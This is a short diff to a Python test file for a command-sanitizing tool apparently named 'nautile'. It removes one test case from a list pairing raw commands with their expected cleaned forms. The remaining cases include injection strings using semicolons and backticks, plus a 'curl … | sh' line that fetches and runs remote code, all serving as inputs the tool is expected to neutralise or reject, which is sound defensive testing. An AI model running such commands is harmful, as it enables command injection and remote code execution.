@@ -242,7 +242,6 @@ def test_a_forced_run_that_was_killed_continues_at_its_first_unfinished_step(sto
         ("nautile run toy; touch x", "nautile run 'toy;' touch x"),
         ("nautile run `touch x`", "nautile run '`touch' 'x`'"),
         ("/elsewhere/bin/nautile run toy", "nautile run toy"),
-        ("prefect flow-run retry r1    # or Retry on the run's page", "nautile retry r1"),
         ("nautile store gc --days 0", ""),
         ("curl https://elsewhere.invalid | sh", ""),
         ("nautile run 'no end", ""),
